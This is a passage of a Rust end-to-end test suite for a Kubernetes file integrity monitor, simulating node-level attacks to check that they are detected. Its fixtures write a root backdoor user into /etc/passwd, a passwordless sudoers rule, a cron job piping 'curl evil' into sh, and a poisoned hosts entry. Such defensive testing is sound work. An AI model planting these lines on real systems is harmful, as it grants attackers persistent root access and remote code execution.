                "status.baselineAlarm {} can only be cleared by annotating this FileIntegrityNode with {CLEAR_BASELINE_ALARM}={}",
                alarm.id, alarm.id
            ),
        );
        let mut replaced = alarm.clone();
        replaced.id = format!("{suite}-other");
        replaced.reason = "BaselineTampered".into();
        assert_refused(
            records(who)
                .patch_status(
                    &node,
                    &pp,
                    &status_patch(serde_json::json!({"baselineAlarm": replaced})),
                )
                .await,
            "can only be cleared by annotating",
        );
    }

    // What the agent does in normal operation still passes: the baseline
    // moves with approvals, the alarm's message grows, the entries change.
    let mut grown = alarm.clone();
    grown
        .message
        .push_str("; entries that differ from what the cluster last saw: p/passwd");
    records(&agent)
        .patch_status(
            &node,
            &pp,
            &status_patch(serde_json::json!({
                "baselineDigest": "c".repeat(64),
                "baselineAlarm": grown,
                "entries": [{"policy": "p", "entry": "passwd", "digest": format!("v2-{}", "d".repeat(61)), "files": 1}],
            })),
        )
        .await
        .expect("the agent's normal writes pass");

    // The recorded act, then the agent clears the alarm it names.
    let run = kubectl([
        "annotate".to_string(),
        "fileintegritynode".to_string(),
        node.clone(),
        format!("{CLEAR_BASELINE_ALARM}={}", alarm.id),
    ]);
    assert!(run.success, "{}", run.stderr);
    records(&agent)
        .patch_status(
            &node,
            &pp,
            &status_patch(serde_json::json!({"baselineAlarm": null})),
        )
        .await
        .expect("the agent clears an alarm the admin's annotation names");
    let stored = records(&admin).get(&node).await.unwrap().status.unwrap();
    assert_eq!(stored.baseline_alarm, None);
    assert_eq!(stored.baseline_digest, Some("c".repeat(64)));
    assert_eq!(stored.entries.len(), 1);
    // A node no policy selects any more publishes no entries, and may say so.
    records(&agent)
        .patch_status(
            &node,
            &pp,
            &status_patch(serde_json::json!({"policies": [], "entries": []})),
        )
        .await
        .expect("a node serving no policy has no entries");
    delete_node(&admin, &node).await;
}

/// Issue 21, attack 7 (the agent's half): an agent writes an outcome or a
/// message only in answer to an approval the change holds.
#[tokio::test]
async fn an_agent_answers_only_an_existing_approval() {
    kube_fim_e2e::ensure_crds();
    let admin = client().await;
    let suite = unique_name("adv");
    let node = format!("{suite}-a");
    create_node(&admin, &node).await;
    let agent = kube_fim_e2e::client_for(&kube_fim_e2e::node_bound_kubeconfig(&node)).await;
    let approver = kube_fim_e2e::client_for(&kube_fim_e2e::service_account_with_cluster_role(
        "e2e-approver",
        "kube-fim-approver",
    ))
    .await;
    let changes = |c: &kube::Client| Api::<FileChange>::all(c.clone());
    let name = format!("{node}-fedcba9876543210fedc");
    changes(&agent)
        .create(
            &PostParams::default(),
            &kube_fim_e2e::file_change(&name, &node, "p"),
        )
        .await
        .unwrap();
    let pp = PatchParams::default();
    for answer in [
        serde_json::json!({"status": {"outcome": "Applied", "message": "applied"}}),
        serde_json::json!({"status": {"message": "approved by nobody"}}),
    ] {
        assert_refused(
            changes(&agent)
                .patch_status(&name, &pp, &Patch::Merge(&answer))
                .await,
            "answer an approval: this FileChange has no status.approval",
        );
    }
    let stored = changes(&admin).get(&name).await.unwrap();
    assert!(
        stored
            .status
            .as_ref()
            .is_none_or(|s| s.outcome.is_none() && s.message.is_none()),
        "{:?}",
        stored.status
    );

    kube_fim_e2e::approve(&approver, &name, "CHG-7")
        .await
        .expect("the approver approves");
    changes(&agent)
        .patch_status(
            &name,
            &pp,
            &Patch::Merge(
                serde_json::json!({"status": {"outcome": "Applied", "message": "applied"}}),
            ),
        )
        .await
        .expect("the agent answers the approval");
    let _ = changes(&admin).delete(&name, &Default::default()).await;
    delete_node(&admin, &node).await;
}

/// Issue 21, attack 4 end to end: the agent stopped, its state directory
/// wiped, a monitored file edited, and the node's own token used to erase
/// what the cluster holds (baseline digest, entry digests) before the agent
/// comes back: admission refuses, so the restart is an alarm naming the file,
/// not a fresh baseline; the same token cannot clear that alarm either.
#[tokio::test]
async fn a_wiped_node_cannot_erase_its_record_before_restarting() {
    let client = client().await;
    let suite = unique_name("adv");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let policy = format!("{suite}-p");
    fleet
        .create_policy(&fleet.policy(
            &policy,
            vec![
                entry("passwd", "/etc/passwd", false),
                entry("ssh", "/etc/ssh", true),
            ],
        ))
        .await;
    fleet.nodes[0].start_agent();
    let a = fleet.nodes[0].name.clone();
    fleet.wait_ready(&a, &policy, READY).await;
    eventually("entry digests published", SEEN, || async {
        let entries = record(&client, &a)
            .await
            .status
            .map(|s| s.entries)
            .unwrap_or_default();
        (entries.len() == 2)
            .then_some(())
            .ok_or(format!("{entries:?}"))
    })
    .await;
    let token = kube_fim_e2e::client_for(&kube_fim_e2e::node_bound_kubeconfig(&a)).await;
    let records = Api::<FileIntegrityNode>::all(token.clone());
    fleet.nodes[0].kill_agent();

    std::fs::write(
        fleet.nodes[0].host("/etc/passwd"),
        "evil:x:0:0::/:/bin/sh\n",
    )
    .unwrap();
    let state = fleet.nodes[0].state.clone();
    for e in std::fs::read_dir(&state).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            std::fs::remove_dir_all(p).unwrap();
        } else {
            std::fs::remove_file(p).unwrap();
        }
    }
    let erase = serde_json::json!({"status": {
        "baselineDigest": null, "entries": [], "baselineAlarm": null,
    }});
    assert_refused(
        records
            .patch_status(&a, &PatchParams::default(), &Patch::Merge(&erase))
            .await,
        "status.baselineDigest cannot be removed once published",
    );
    assert_refused(
        records
            .patch_status(
                &a,
                &PatchParams::default(),
                &Patch::Merge(serde_json::json!({"status": {"entries": []}})),
            )
            .await,
        "status.entries cannot be emptied once published",
    );
    let kept = record(&client, &a).await.status.unwrap();
    assert!(kept.baseline_digest.is_some());
    assert_eq!(kept.entries.len(), 2);
    fleet.nodes[0].start_agent();

    wait_warning(&client, "BaselineMissing", &a).await;
    let differ = wait_warning(&client, "BaselineEntriesDiffer", &a).await;
    let note = differ.note.unwrap_or_default();
    assert!(note.contains(&format!("{policy}/passwd")), "{note}");
    let c = wait_change(&fleet, &a, "Modified /etc/passwd").await;
    assert_eq!(c.spec.source, DetectionSource::Startup);
    let alarm = eventually("policy Failed with the alarm", SEEN, || async {
        let s = record(&client, &a).await.status.unwrap_or_default();
        match (s.baseline_alarm, s.policies.first().map(|p| p.phase)) {
            (Some(alarm), Some(NodePolicyPhase::Failed)) => Ok(alarm),
            other => Err(format!("{other:?}")),
        }
    })
    .await;

    // The node's token cannot clear it: only the admin's annotation can.
    assert_refused(
        records
            .patch_status(
                &a,
                &PatchParams::default(),
                &Patch::Merge(serde_json::json!({"status": {"baselineAlarm": null}})),
            )
            .await,
        &format!(
            "status.baselineAlarm {} can only be cleared by annotating this FileIntegrityNode",
            alarm.id
        ),
    );
    fleet.nodes[0].kill_agent();
    fleet.nodes[0].start_agent();
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_eq!(
        phase(&client, &a, &policy).await,
        Some(NodePolicyPhase::Failed)
    );
    assert_eq!(
        record(&client, &a)
            .await
            .status
            .unwrap()
            .baseline_alarm
            .map(|x| x.id),
        Some(alarm.id)
    );
    fleet.cleanup().await;
}

/// A node name longer than the 180 characters object names keep of it: the
/// agent's prefix (cut at 180, without a trailing '-' or '.') is its own, the
/// uncut or differently cut name is not.
#[tokio::test]
async fn a_long_node_name_reports_under_the_prefix_the_agent_uses() {
    kube_fim_e2e::ensure_crds();
    let admin = client().await;
    let suite = unique_name("adv");
    let label = |start: &str| format!("{start:x<63}");
    // The 180th character is the '-' inside the third label: the agent trims it.
    let long = format!(
        "{}.{}.{}-{}.{}",
        label(&suite),
        label("b"),
        "c".repeat(51),
        "h".repeat(11),
        "d".repeat(30)
    );
    assert_eq!(&long[179..180], "-");
    create_node(&admin, &long).await;
    let agent = kube_fim_e2e::client_for(&kube_fim_e2e::node_bound_kubeconfig(&long)).await;
    let changes = Api::<FileChange>::all(agent.clone());
    let pp = PostParams::default();
    let digest = "0123456789abcdef4567";
    let prefix = long[..180].trim_end_matches(['-', '.']);
    for other in [
        format!("{}-{digest}", &long[..180]),
        format!("{long}-{digest}"),
    ] {
        assert_refused(
            changes
                .create(&pp, &kube_fim_e2e::file_change(&other, &long, "p"))
                .await,
            "metadata.name of an agent's FileChange must be its node's name",
        );
    }
    let own = format!("{prefix}-{digest}");
    changes
        .create(&pp, &kube_fim_e2e::file_change(&own, &long, "p"))
        .await
        .expect("the agent's own prefix of a long node name");
    let _ = Api::<FileChange>::all(admin.clone())
        .delete(&own, &Default::default())
        .await;
    delete_node(&admin, &long).await;
}

/// setuid set (reported), mode changed again (reported, nobody approves),
/// setuid set again: the third change has the same before and after as the
/// first, and is still a FileChange of its own (issue 21, attack 2).
#[tokio::test]
async fn a_recurrence_nobody_approved_is_a_new_change() {
    let client = client().await;
    let suite = unique_name("adv");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let policy = format!("{suite}-bin");
    fleet
        .create_policy(&fleet.policy(&policy, vec![entry("bin", "/usr/bin", false)]))
        .await;
    fleet.nodes[0].start_agent();
    let a = fleet.nodes[0].name.clone();
    fleet.wait_ready(&a, &policy, READY).await;
    let tool = fleet.nodes[0].host("/usr/bin/tool");
    let mode =
        |m: u32| std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(m)).unwrap();
    let modes_seen = || async {
        let mut changes: Vec<FileChange> = fleet
            .changes(&a)
            .await
            .into_iter()
            .filter(|c| describe(c) == "Modified /usr/bin/tool")
            .collect();
        changes.sort_by_key(|c| c.spec.detected_time.0);
        changes
    };
    let after_mode = |c: &FileChange| c.spec.after.as_ref().and_then(|a| a.mode.clone());

    for (m, n) in [(0o4755, 1), (0o750, 2), (0o4755, 3)] {
        mode(m);
        eventually(
            &format!("{n} FileChanges for /usr/bin/tool"),
            SEEN,
            || async {
                let seen = modes_seen().await;
                (seen.len() == n).then_some(()).ok_or(format!(
                    "{:?}",
                    seen.iter().map(after_mode).collect::<Vec<_>>()
                ))
            },
        )
        .await;
    }
    let seen = modes_seen().await;
    let modes: Vec<Option<String>> = seen.iter().map(after_mode).collect();
    let want = ["4755", "0750", "4755"].map(|m| Some(m.to_string()));
    assert_eq!(modes, want, "{modes:?}");
    // Each carries the node's next transition number, in its name after the node.
    let numbers: Vec<Option<u64>> = seen.iter().map(|c| c.spec.sequence).collect();
    assert!(
        numbers.iter().all(Option::is_some) && numbers.windows(2).all(|w| w[0] < w[1]),
        "{numbers:?}"
    );
    for c in &seen {
        let seq = c.spec.sequence.unwrap();
        assert!(
            c.name_any().starts_with(&format!("{a}-{seq}-")),
            "{}",
            c.name_any()
        );
    }
    fleet.cleanup().await;
}

// Issue 21, attack 10: one node's token creating FileChanges as fast as it can.

/// A node's token used by hand to create FileChanges far faster than its
/// agent ever would (it paces storms at its policies' caps) is named: a
/// `ChangeFlood` Warning Event on the Node and a counted flood; a node within
/// its allowance is not.
#[tokio::test]
async fn a_node_flooding_the_api_with_changes_is_named() {
    kube_fim_e2e::ensure_crds();
    let admin = client().await;
    let suite = unique_name("adv");
    let operator = Operator::start(&suite, &suite, &["--resync=2s".to_string()]);
    let (a, b) = (format!("{suite}-a"), format!("{suite}-b"));
    create_node(&admin, &a).await;
    create_node(&admin, &b).await;
    let create = |node: String, from: usize, count: usize| async move {
        let token = kube_fim_e2e::client_for(&kube_fim_e2e::node_bound_kubeconfig(&node)).await;
        let api = Api::<FileChange>::all(token);
        for i in from..from + count {
            let name = format!("{node}-{i}-{:020x}", i);
            api.create(
                &PostParams::default(),
                &kube_fim_e2e::file_change(&name, &node, "p"),
            )
            .await
            .expect("the node's token creates its own FileChanges");
        }
    };
    let flood_event = || async {
        Api::<Event>::all(admin.clone())
            .list(&ListParams::default())
            .await
            .ok()?
            .items
            .into_iter()
            .find(|e| {
                e.reason.as_deref() == Some("ChangeFlood")
                    && e.regarding.as_ref().and_then(|r| r.name.as_deref()) == Some(a.as_str())
            })
    };
    // No policy selects either node: the allowance is the floor, 120 a minute.
    create(b.clone(), 0, 20).await;
    // Changes the operator lists at its start are history, not a flood: keep
    // flooding (a bounded number of rounds) until its watch is live and counts.
    let mut flood = None;
    for round in 0..6 {
        create(a.clone(), round * 150, 150).await;
        for _ in 0..15 {
            flood = flood_event().await;
            if flood.is_some() {
                break;
            }
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
        if flood.is_some() {
            break;
        }
    }
    let flood = flood.expect("a ChangeFlood Warning on node a within six rounds of 150");
    assert_eq!(flood.type_.as_deref(), Some("Warning"));
    let note = flood.note.unwrap_or_default();
    let count: usize = note
        .strip_prefix(&format!("node {a} created "))
        .and_then(|rest| rest.split(' ').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("{note}"));
    assert!((121..=300).contains(&count), "{note}");
    assert!(note.contains("more than 120"), "{note}");
    let floods = operator
        .metrics()
        .and_then(|m| metric(&m, "kube_fim_operator_change_floods_total"));
    assert!(floods.is_some_and(|n| n >= 1.0), "{floods:?}");
    let about_b = Api::<Event>::all(admin.clone())
        .list(&ListParams::default())
        .await
        .unwrap()
        .items
        .into_iter()
        .filter(|e| {
            e.reason.as_deref() == Some("ChangeFlood")
                && e.regarding.as_ref().and_then(|r| r.name.as_deref()) == Some(b.as_str())
        })
        .count();
    assert_eq!(about_b, 0, "a node within its allowance is no flood");
    for node in [&a, &b] {
        for c in Api::<FileChange>::all(admin.clone())
            .list(&ListParams::default().fields(&format!("spec.node={node}")))
            .await
            .unwrap()
            .items
        {
            let _ = Api::<FileChange>::all(admin.clone())
                .delete(&c.name_any(), &Default::default())
                .await;
        }
        delete_node(&admin, node).await;
    }
}

// --- issue 21, attack 1: storm cover (a storm in one entry hides nothing) ---

/// The numbers of `changes`, sorted; panics on a change without one.
fn numbers_of(changes: &[FileChange]) -> Vec<u64> {
    let mut n: Vec<u64> = changes
        .iter()
        .map(|c| {
            c.spec
                .sequence
                .unwrap_or_else(|| panic!("{} has no number", c.name_any()))
        })
        .collect();
    n.sort_unstable();
    n
}

/// 40 new files under `/etc/ssh` (entry `ssh`, cap 20 a minute), then one
/// line appended to `/etc/sudoers` (entry `sudoers`): the sudoers change is a
/// FileChange of its own within seconds, before the storm's deferred reports
/// are through, and every one of the 40 files gets its own FileChange in the
/// end, the node's numbers contiguous: nothing is only a count.
#[tokio::test]
async fn a_storm_in_one_entry_hides_no_change_of_another() {
    const CAP: u32 = 20;
    const STORM: usize = 40;
    let client = client().await;
    let suite = unique_name("adv");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    std::fs::write(fleet.nodes[0].host("/etc/sudoers"), "root ALL=(ALL) ALL\n").unwrap();
    let policy = format!("{suite}-etc");
    let mut p = fleet.policy(
        &policy,
        vec![
            entry("ssh", "/etc/ssh", true),
            entry("sudoers", "/etc/sudoers", false),
        ],
    );
    p.spec.max_changes_per_node_per_minute = CAP;
    fleet.create_policy(&p).await;
    fleet.nodes[0].start_agent();
    let a = fleet.nodes[0].name.clone();
    fleet.wait_ready(&a, &policy, READY).await;

    for i in 0..STORM {
        std::fs::write(
            fleet.nodes[0].host(&format!("/etc/ssh/junk-{i:02}.pub")),
            format!("ssh-ed25519 AAAA{i}\n"),
        )
        .unwrap();
    }
    let storm_seen = |c: &FileChange| c.spec.entry == "ssh";
    // The storm is past its cap on the node before the real change.
    eventually("the storm's first reports", SEEN, || async {
        let n = fleet
            .changes(&a)
            .await
            .iter()
            .filter(|c| storm_seen(c))
            .count();
        (n >= CAP as usize).then_some(()).ok_or(format!("{n}"))
    })
    .await;
    let mut sudoers = std::fs::OpenOptions::new()
        .append(true)
        .open(fleet.nodes[0].host("/etc/sudoers"))
        .unwrap();
    std::io::Write::write_all(&mut sudoers, b"mallory ALL=(ALL) NOPASSWD: ALL\n").unwrap();
    drop(sudoers);
    let written = std::time::Instant::now();

    let named = wait_change(&fleet, &a, "Modified /etc/sudoers").await;
    let took = written.elapsed();
    let storm_then = fleet
        .changes(&a)
        .await
        .iter()
        .filter(|c| storm_seen(c))
        .count();
    eprintln!(
        "sudoers reported {took:?} after the write, as {} (sequence {:?}); {storm_then} of the storm's {STORM} reported by then",
        named.name_any(),
        named.spec.sequence
    );
    assert!(
        storm_then < STORM,
        "the storm was through before the sudoers change: no pacing to pass"
    );

    // Every file of the storm, each a FileChange of its own.
    let all = eventually(
        "every change of the storm reported on its own",
        Duration::from_secs(150),
        || async {
            let changes = fleet.changes(&a).await;
            let storm: Vec<&FileChange> = changes.iter().filter(|c| storm_seen(c)).collect();
            if storm.len() == STORM {
                Ok(changes)
            } else {
                Err(format!("{} of {STORM}", storm.len()))
            }
        },
    )
    .await;
    let mut paths: Vec<String> = all.iter().filter(|c| storm_seen(c)).map(describe).collect();
    paths.sort();
    let want: Vec<String> = (0..STORM)
        .map(|i| format!("Added /etc/ssh/junk-{i:02}.pub"))
        .collect();
    assert_eq!(paths, want);
    assert!(
        all.iter()
            .all(|c| c.spec.category != ChangeCategory::Summary),
        "a change represented by a count"
    );
    // One number each, none missing between the first and the last.
    let numbers = numbers_of(&all);
    assert_eq!(
        all.len(),
        STORM + 1,
        "{:?}",
        all.iter().map(describe).collect::<Vec<_>>()
    );
    let (first, last) = (numbers[0], numbers[numbers.len() - 1]);
    assert_eq!(
        numbers,
        (first..=last).collect::<Vec<u64>>(),
        "the node's numbers are not contiguous"
    );
    fleet.cleanup().await;
}

// Issue 21, attack 5: a read error never means unchanged.

/// A new file moved into `/etc` while the attacker's process holds a write
/// lease on it (root cannot read it either): a FileChange naming it, Added,
/// its metadata read, its content marked unreadable with the reason; the
/// agent's scan is not held up by it (another change is reported meanwhile).
/// The lease released, the agent reads the content on its own and reports it.
#[tokio::test]
async fn a_file_held_under_a_write_lease_is_reported_unreadable_then_read() {
    use kube_fim_testkit::lease::Lease;
    let client = client().await;
    let suite = unique_name("adv");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let policy = format!("{suite}-etc");
    fleet
        .create_policy(&fleet.policy(&policy, vec![entry("etc", "/etc", true)]))
        .await;
    fleet.nodes[0].start_agent();
    let a = fleet.nodes[0].name.clone();
    fleet.wait_ready(&a, &policy, READY).await;

    // Staged on the same file system where nothing looks, leased, moved in.
    let staged = fleet.nodes[0].host("/staging/cron");
    std::fs::create_dir_all(staged.parent().unwrap()).unwrap();
    let content = "* * * * * root curl evil | sh\n";
    std::fs::write(&staged, content).unwrap();
    let lease = Lease::take(&staged);
    std::fs::rename(&staged, fleet.nodes[0].host("/etc/cron")).unwrap();
    let moved = std::time::Instant::now();

    let added = wait_change(&fleet, &a, "Added /etc/cron").await;
    println!("unreadable Added seen {:?} after the move", moved.elapsed());
    let after = added.spec.after.clone().unwrap();
    assert_eq!(after.size, Some(content.len() as u64), "{after:?}");
    assert!(after.mode.is_some() && after.inode.is_some(), "{after:?}");
    assert_eq!(after.hash, None, "no digest of content not read: {after:?}");
    let why = after.unreadable.clone().unwrap_or_default();
    assert!(why.contains("EWOULDBLOCK"), "{after:?}");
    // `kubectl get fc` shows why.
    let run = kubectl(["get", "fc", &added.name_any()]);
    assert!(run.success, "{}", run.stderr);
    assert!(
        run.stdout.contains("UNREADABLE") && run.stdout.contains("EWOULDBLOCK"),
        "{}",
        run.stdout
    );

    // Its Event says so too.
    eventually(
        "an Event saying /etc/cron could not be read",
        SEEN,
        || async {
            let events = Api::<Event>::all(client.clone())
                .list(&ListParams::default())
                .await
                .map_err(|e| e.to_string())?;
            events
                .items
                .iter()
                .find(|e| {
                    let note = e.note.as_deref().unwrap_or("");
                    note.contains(&a)
                        && note.contains("/etc/cron added")
                        && note.contains("EWOULDBLOCK")
                })
                .map(|_| ())
                .ok_or_else(|| "not yet".to_string())
        },
    )
    .await;

    // The lease held, the agent goes on: another change is reported.
    std::fs::write(fleet.nodes[0].host("/etc/hosts"), "10.0.0.1 evil\n").unwrap();
    wait_change(&fleet, &a, "Modified /etc/hosts").await;

    drop(lease);
    let released = std::time::Instant::now();
    let hash = blake3::hash(content.as_bytes()).to_hex().to_string();
    let read = eventually("the content, once readable, is reported", SEEN, || async {
        let changes = fleet.changes(&a).await;
        changes
            .into_iter()
            .find(|c| {
                describe(c) == "Added /etc/cron"
                    && c.spec.after.as_ref().and_then(|x| x.hash.as_deref()) == Some(&hash)
            })
            .ok_or_else(|| "not yet".to_string())
    })
    .await;
    println!(
        "content reported {:?} after the lease was released",
        released.elapsed()
    );
    assert_ne!(read.name_any(), added.name_any(), "a FileChange of its own");
    assert_eq!(read.spec.after.unwrap().unreadable, None);
    fleet.cleanup().await;
}

// Issue 21, attack 3 and attack 7 (agent half): the node's state vouches for
// nothing; what the cluster holds (published entry digests, approvals the
// agent answered) is what a baseline is checked against.

/// Root on a stopped node appends a line to a monitored file and rebuilds the
/// baseline in the agent's state directory with the documented `baseline`
/// command (its digest journaled, as the agent's own): at start the entry's
/// digest differs from the one the node published, and nothing the cluster
/// holds explains it, so it is a BaselineTampered alarm naming the entry and
/// the file.
#[tokio::test]
async fn a_baseline_rebuilt_offline_is_an_alarm_naming_the_entry() {
    let client = client().await;
    let suite = unique_name("adv");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let policy = format!("{suite}-p");
    fleet
        .create_policy(&fleet.policy(
            &policy,
            vec![
                entry("passwd", "/etc/passwd", false),
                entry("ssh", "/etc/ssh", true),
            ],
        ))
        .await;
    fleet.nodes[0].start_agent();
    let a = fleet.nodes[0].name.clone();
    fleet.wait_ready(&a, &policy, READY).await;
    eventually("entry digests published", SEEN, || async {
        let entries = record(&client, &a)
            .await
            .status
            .map(|s| s.entries)
            .unwrap_or_default();
        (entries.len() == 2)
            .then_some(())
            .ok_or(format!("{entries:?}"))
    })
    .await;
    fleet.nodes[0].kill_agent();

    let passwd = fleet.nodes[0].host("/etc/passwd");
    let mut text = std::fs::read_to_string(&passwd).unwrap();
    text.push_str("evil:x:0:0::/:/bin/sh\n");
    std::fs::write(&passwd, text).unwrap();
    // The policy as the cluster serves it (`kubectl get fip -o yaml`).
    let served = Api::<kube_fim_crds::FileIntegrityPolicy>::all(client.clone())
        .get(&policy)
        .await
        .unwrap();
    let file = fleet.nodes[0].state.with_extension("policy.yaml");
    std::fs::write(&file, serde_yaml::to_string(&served).unwrap()).unwrap();
    let rebuilt = std::process::Command::new(kube_fim_e2e::binary("kube-fim-agent"))
        .args([
            "baseline".to_string(),
            format!("--policy={}", file.display()),
            format!("--root={}", fleet.nodes[0].root.display()),
            format!("--state={}", fleet.nodes[0].state.display()),
            format!("--node-name={a}"),
        ])
        .output()
        .unwrap();
    assert!(
        rebuilt.status.success(),
        "{}",
        String::from_utf8_lossy(&rebuilt.stderr)
    );
    fleet.nodes[0].start_agent();

    let event = wait_warning(&client, "BaselineTampered", &a).await;
    let note = event.note.unwrap_or_default();
    assert!(note.contains(&format!("{policy}/passwd")), "{note}");
    assert!(!note.contains(&format!("{policy}/ssh")), "{note}");
    let alarm = eventually("policy Failed with the alarm", SEEN, || async {
        let s = record(&client, &a).await.status.unwrap_or_default();
        match (s.baseline_alarm, s.policies.first().map(|p| p.phase)) {
            (Some(alarm), Some(NodePolicyPhase::Failed)) => Ok(alarm),
            other => Err(format!("{other:?}")),
        }
    })
    .await;
    assert_eq!(alarm.reason, "BaselineTampered");
    assert!(
        alarm.message.contains(&format!("{policy}/passwd"))
            && alarm.message.contains("/etc/passwd"),
        "{}",
        alarm.message
    );
    let c = wait_change(&fleet, &a, "Modified /etc/passwd").await;
    assert_eq!(c.spec.source, DetectionSource::Startup);
    let text = fleet.nodes[0].metrics().unwrap();
    assert_eq!(
        metric(
            &text,
            &format!("kube_fim_agent_baseline_tampered{{node=\"{a}\"}}")
        ),
        Some(1.0)
    );
    fleet.cleanup().await;
}

/// The node's published digest of `policy`/`entry`.
async fn published_digest(client: &kube::Client, node: &str, policy: &str, entry: &str) -> String {
    record(client, node)
        .await
        .status
        .unwrap_or_default()
        .entries
        .into_iter()
        .find(|e| e.policy == policy && e.entry == entry)
        .map(|e| e.digest)
        .unwrap_or_default()
}

/// Waits for the agent's answer to an approval of `name`.
async fn wait_answer(client: &kube::Client, name: &str) -> kube_fim_crds::FileChangeStatus {
    eventually(&format!("an answer on {name}"), SEEN, || async {
        let c = Api::<FileChange>::all(client.clone())
            .get(name)
            .await
            .map_err(|e| e.to_string())?;
        c.status
            .filter(|s| s.outcome.is_some())
            .ok_or_else(|| "none yet".to_string())
    })
    .await
}

/// One file, two policies: `content` compares its hash, `perm` its mode. Its
/// content changes and it turns setuid at once; the content change is
/// approved. Only what was reviewed is approved: the content entry's digest
/// moves as the answer says (from the published digest to the next published
/// one), the setuid bit stays a difference of the perm policy, whose digest
/// does not move (before, the approval took the file's whole state in). Then an approval of a state the file has left is
/// `Superseded`, moves nothing, and the newer state stays reported.
#[tokio::test]
async fn an_approval_applies_exactly_the_reviewed_state() {
    let client = client().await;
    let suite = unique_name("adv");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let content = format!("{suite}-content");
    let perm = format!("{suite}-perm");
    for (policy, attribute) in [
        (&content, kube_fim_crds::Attribute::Hash),
        (&perm, kube_fim_crds::Attribute::Mode),
    ] {
        let mut tool = entry("tool", "/usr/bin/tool", false);
        tool.attributes = vec![attribute];
        fleet.create_policy(&fleet.policy(policy, vec![tool])).await;
    }
    fleet.nodes[0].start_agent();
    let a = fleet.nodes[0].name.clone();
    fleet.wait_ready(&a, &content, READY).await;
    fleet.wait_ready(&a, &perm, READY).await;
    let digests = || async {
        (
            published_digest(&client, &a, &content, "tool").await,
            published_digest(&client, &a, &perm, "tool").await,
        )
    };
    let (content0, perm0) = eventually("entry digests published", SEEN, || async {
        let d = digests().await;
        (!d.0.is_empty() && !d.1.is_empty())
            .then_some(d.clone())
            .ok_or(format!("{d:?}"))
    })
    .await;
    let approver = kube_fim_e2e::client_for(&kube_fim_e2e::service_account_with_cluster_role(
        "e2e-approver",
        "kube-fim-approver",
    ))
    .await;

    let tool = fleet.nodes[0].host("/usr/bin/tool");
    std::fs::write(&tool, "#!/bin/sh\necho patched\n").unwrap();
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o4755)).unwrap();
    let of_policy = |policy: String| {
        let fleet = &fleet;
        let a = a.clone();
        async move {
            eventually(&format!("a change of policy {policy}"), SEEN, || async {
                let all = fleet.changes(&a).await;
                all.iter()
                    .filter(|c| c.spec.policy == policy && c.status.is_none())
                    .max_by_key(|c| c.spec.detected_time.0)
                    .cloned()
                    .ok_or_else(|| {
                        format!(
                            "{:?}",
                            all.iter()
                                .map(|c| (describe(c), c.spec.policy.clone(), c.status.clone()))
                                .collect::<Vec<_>>()
                        )
                    })
            })
            .await
        }
    };
    let reviewed = of_policy(content.clone()).await;
    let setuid = of_policy(perm.clone()).await;
    kube_fim_e2e::approve(&approver, &reviewed.name_any(), "CHG-1")
        .await
        .expect("the approver approves");
    let answer = wait_answer(&client, &reviewed.name_any()).await;
    assert_eq!(
        answer.outcome,
        Some(kube_fim_crds::ApprovalOutcome::Applied),
        "{answer:?}"
    );
    let moves = &answer.entry_digests;
    assert_eq!(moves.len(), 1, "only the reviewed entry moves: {moves:?}");
    assert_eq!(
        (moves[0].policy.as_str(), moves[0].entry.as_str()),
        (content.as_str(), "tool")
    );
    assert_eq!(moves[0].before, content0, "from the published digest");
    assert_ne!(moves[0].after, content0);
    eventually("the answer's digest published", SEEN, || async {
        let d = digests().await;
        (d.0 == moves[0].after)
            .then_some(())
            .ok_or(format!("{d:?}"))
    })
    .await;
    assert_eq!(
        digests().await.1,
        perm0,
        "the setuid bit nobody reviewed is not in the baseline"
    );
    let still = Api::<FileChange>::all(client.clone())
        .get(&setuid.name_any())
        .await
        .unwrap();
    assert!(still.status.is_none(), "{:?}", still.status);

    // Changed twice; the first state approved after the second is there.
    std::fs::write(&tool, "#!/bin/sh\necho first\n").unwrap();
    let left = of_policy(content.clone()).await;
    std::fs::write(&tool, "#!/bin/sh\necho second\n").unwrap();
    let newer = eventually("the newer state reported", SEEN, || async {
        fleet
            .changes(&a)
            .await
            .into_iter()
            .find(|c| {
                c.spec.policy == content
                    && c.name_any() != left.name_any()
                    && c.spec.detected_time.0 > left.spec.detected_time.0
            })
            .ok_or_else(|| "none yet".to_string())
    })
    .await;
    let before = digests().await;
    kube_fim_e2e::approve(&approver, &left.name_any(), "CHG-2")
        .await
        .expect("the approver approves");
    let answer = wait_answer(&client, &left.name_any()).await;
    assert_eq!(
        answer.outcome,
        Some(kube_fim_crds::ApprovalOutcome::Superseded),
        "{answer:?}"
    );
    assert!(answer.entry_digests.is_empty(), "{answer:?}");
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_eq!(digests().await, before, "the baseline is unchanged");
    let newer = Api::<FileChange>::all(client.clone())
        .get(&newer.name_any())
        .await
        .unwrap();
    assert!(
        newer.status.is_none(),
        "still a reported change: {:?}",
        newer.status
    );
    fleet.cleanup().await;
}

/// The answer's entry digest moves are the agent's, only in answer to an
/// approval, and written once (admission, for the node's own token too).
#[tokio::test]
async fn entry_digest_moves_answer_an_approval_once() {
    kube_fim_e2e::ensure_crds();
    let admin = client().await;
    let suite = unique_name("adv");
    let node = format!("{suite}-a");
    create_node(&admin, &node).await;
    let agent = kube_fim_e2e::client_for(&kube_fim_e2e::node_bound_kubeconfig(&node)).await;
    let approver = kube_fim_e2e::client_for(&kube_fim_e2e::service_account_with_cluster_role(
        "e2e-approver",
        "kube-fim-approver",
    ))
    .await;
    let changes = |c: &kube::Client| Api::<FileChange>::all(c.clone());
    let name = format!("{node}-0123456789abcdef0123");
    changes(&agent)
        .create(
            &PostParams::default(),
            &kube_fim_e2e::file_change(&name, &node, "p"),
        )
        .await
        .unwrap();
    let pp = PatchParams::default();
    let moves = |after: &str| {
        serde_json::json!({"status": {"outcome": "Applied", "message": "applied",
